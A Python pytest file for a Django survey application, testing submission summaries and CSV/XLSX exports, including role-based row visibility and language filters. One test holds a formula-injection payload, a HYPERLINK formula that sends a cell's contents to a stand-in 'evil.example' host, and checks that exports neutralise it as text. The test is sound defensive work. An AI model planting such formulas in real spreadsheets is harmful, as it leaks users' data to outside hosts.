"""A form's submissions summed up (counts, means) and exported (CSV, XLSX)."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from intake.roles import Role
from surveys.models import FormPage
from tests.factories import form_page, question
from tests.surveys.interview_fixtures import (
    english,
    translate,
)
from tests.surveys.submission_helpers import (
    amie_interview,
    content,
    csv_rows,
    referral_form,
    send,
    xlsx_rows,
)

FORMS_URL = reverse("surveys_submissions:forms")


@pytest.fixture
def interview(world) -> FormPage:
    return amie_interview(world)


# --- summary ----------------------------------------------------------------------


def test_the_summary_counts_and_averages(world, interview):
    coach = english(world.client("a", Role.COACH))
    send(
        coach,
        interview,
        first_name="A",
        mood="4",
        motivated="yes",
        why="friends",
        notes="Premier",
    )
    send(
        coach,
        interview,
        first_name="B",
        mood="2",
        motivated="yes",
        why=["friends", "language"],
        notes="Deuxième",
    )
    send(
        coach,
        interview,
        first_name="C",
        mood="5",
        motivated="no",
        **{"attitude-punctual": "4"},
    )

    response = coach.get(reverse("surveys_submissions:summary", args=(interview.pk,)))
    page = content(response)
    summary = {q.key: q for q in response.context["summary"].questions}

    assert response.context["summary"].total == 3
    assert summary["mood"].scales[0].mean == pytest.approx(3.67)
    assert "Mean: 3.67 (3 answers)" in page
    assert [(r.label, r.count) for r in summary["mood"].scales[0].distribution] == [
        ("1 / 5 (Very bad)", 0),
        ("2 / 5 (Bad)", 1),
        ("3 / 5 (So-so)", 0),
        ("4 / 5 (Good)", 1),
        ("5 / 5 (Very good)", 1),
    ]
    assert [(r.label, r.count) for r in summary["motivated"].choices] == [
        ("Yes", 2),
        ("No", 1),
    ]
    assert [(r.label, r.count) for r in summary["why"].choices] == [
        ("Des amis", 2),
        ("La langue", 1),
    ]
    punctual, polite = summary["attitude"].scales
    assert (punctual.label, punctual.answered, punctual.mean) == ("Ponctuel", 1, 4)
    assert (polite.label, polite.answered, polite.mean) == ("Poli", 0, None)
    assert summary["notes"].texts == ["Deuxième", "Premier"]
    assert page.index("Deuxième") < page.index("Premier")


# --- exports ----------------------------------------------------------------------


@pytest.fixture
def referral(world) -> FormPage:
    return referral_form(world)


def test_the_exports_hold_exactly_the_readers_rows_with_clear_headings(world, referral):
    social_worker = english(world.client("a", Role.SOCIAL_WORKER))
    coach = english(world.client("a", Role.COACH))
    send(social_worker, referral, name="Amina", reason="work")
    send(coach, referral, name="Bilal", reason="language")
    index = reverse("surveys_submissions:index", args=(referral.pk,))
    headings = [
        "Submission date [submitted_at]",
        "Language [language]",
        "Version [version]",
        "Submitted by [submitted_by]",
        "Nom [name]",
        "Motif [reason]",
    ]

    rows = csv_rows(social_worker.get(index, {"export": "csv"}))
    assert rows[0] == headings
    assert [row[4:] for row in rows[1:]] == [["Amina", "Travail"]]
    assert rows[1][1:4] == ["French", "1", "Test Antenna social worker"]

    rows = xlsx_rows(coach.get(index, {"export": "xlsx"}))
    assert rows[0] == headings
    assert [row[4:] for row in rows[1:]] == [["Amina", "Travail"], ["Bilal", "Langue"]]
    assert isinstance(rows[1][0], datetime.datetime)


def test_a_label_written_as_a_formula_stays_text_in_both_exports(world):
    trap = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    page = form_page(world.programme["a"], [question("singleline", trap, "name")])
    coach = english(world.client("a", Role.COACH))
    send(coach, page, name="=1+2")
    index = reverse("surveys_submissions:index", args=(page.pk,))

    rows = csv_rows(coach.get(index, {"export": "csv"}))
    assert rows[0][4] == f"'{trap} [name]"
    assert rows[1][4] == "'=1+2"

    response = coach.get(index, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.cell(1, 5).data_type == "s"
    assert sheet.cell(1, 5).value == f"{trap} [name]"
    assert sheet.cell(2, 5).data_type == "s"


def test_the_exports_respect_the_filters(world, interview):
    dutch = translate(interview, "nl", {"first_name": "Voornaam"})
    coach = english(world.client("a", Role.COACH))
    send(coach, interview, first_name="Amina", mood="4", motivated="yes")
    send(coach, dutch, first_name="Chiara", mood="5", motivated="yes")
    index = reverse("surveys_submissions:index", args=(interview.pk,))

    rows = csv_rows(coach.get(index, {"export": "csv", "language": "nl"}))
    assert len(rows) == 2
    assert "Chiara" in rows[1]
    assert rows[0][4] == "Prénom [first_name]"
